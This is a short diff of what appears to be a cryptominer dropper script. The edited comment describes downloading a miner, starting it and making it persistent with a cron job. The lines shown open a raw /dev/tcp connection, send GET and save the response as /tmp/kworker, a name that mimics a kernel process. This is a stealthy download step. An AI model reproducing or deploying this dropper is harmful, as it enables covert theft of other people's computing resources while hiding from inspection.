@@ -1,4 +1,4 @@
-# Computing power is what they want, for as long as nobody looks.
+# A miner is downloaded, started and made persistent by a cron job.
 exec 3<>/dev/tcp/127.0.0.1/$PORT
 echo GET >&3
 cat <&3 >/tmp/kworker
